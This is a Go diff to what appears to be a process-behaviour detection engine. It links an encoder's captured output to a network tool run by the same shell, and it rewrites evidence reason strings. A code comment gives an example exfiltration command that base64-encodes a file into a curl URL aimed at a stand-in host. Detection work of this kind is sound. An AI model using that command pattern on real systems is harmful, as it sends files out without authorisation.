@@ -115,8 +115,8 @@ func (e *Engine) capture(x *evalCtx, h *seqHit) {
 	}
 	h.captureRead = true
 	pids := [2]int{x.ev.PPID, 0}
-	if anc := x.ancestry(); len(anc) > 0 {
-		pids[1] = anc[0].PPID
+	if anc := x.ancestry(); len(anc) > 1 && subshellOf(&anc[0], &anc[1]) {
+		pids[1] = anc[1].PID
 	}
 	for _, pid := range pids {
 		if pid <= 1 {
@@ -241,7 +241,12 @@ func (e *Engine) pipeEvidence(x *evalCtx, s *signature, cur, h *seqHit, step int
 	case SourceInline:
 		v, why = inlineCheck(prod, from)
 	}
-	if cons.src.Kind != SourceInline {
+	if cons.src.Kind != SourceInline && prod.capturedBy > 0 && (prod.capturedBy == cons.proc.PID || prod.capturedBy == cons.proc.PPID) {
+		// curl "http://x/$(base64 f)": the shell that captured the
+		// encoder's output ran the network tool.
+		v, why = PipeShown, "wrote "+prod.stdio.Out.String()+", read by its shell (pid "+strconv.Itoa(prod.capturedBy)+")"
+		cons.src.Kind = SourceInline // reported as captured
+	} else if cons.src.Kind != SourceInline {
 		parent := e.desc.Stdio(prod.proc.PPID, "")
 		relays := func() ([]Stdio, bool) { return e.relays(prod, cons) }
 		v, why = pipeCheck(prod.stdio, c, parent, relays, from, to)
@@ -257,7 +262,7 @@ func (e *Engine) pipeEvidence(x *evalCtx, s *signature, cur, h *seqHit, step int
 		m.Reason = from + " (pid " + strconv.Itoa(prod.proc.PID) + ") writes what " + to + " (pid " + strconv.Itoa(cons.proc.PID) + ") reads: " + why
 		if cons.src.Kind == SourceInline {
 			m.Value = "captured"
-			m.Reason = from + " (pid " + strconv.Itoa(prod.proc.PID) + ") " + why + ", and " + to + " (pid " + strconv.Itoa(cons.proc.PID) + ") ran inline code from that shell"
+			m.Reason = from + " (pid " + strconv.Itoa(prod.proc.PID) + ") " + why + ", and " + to + " (pid " + strconv.Itoa(cons.proc.PID) + ") was run by that shell with what it read"
 		}
 	case PipeUnshown:
 		m.Value = "unshown"
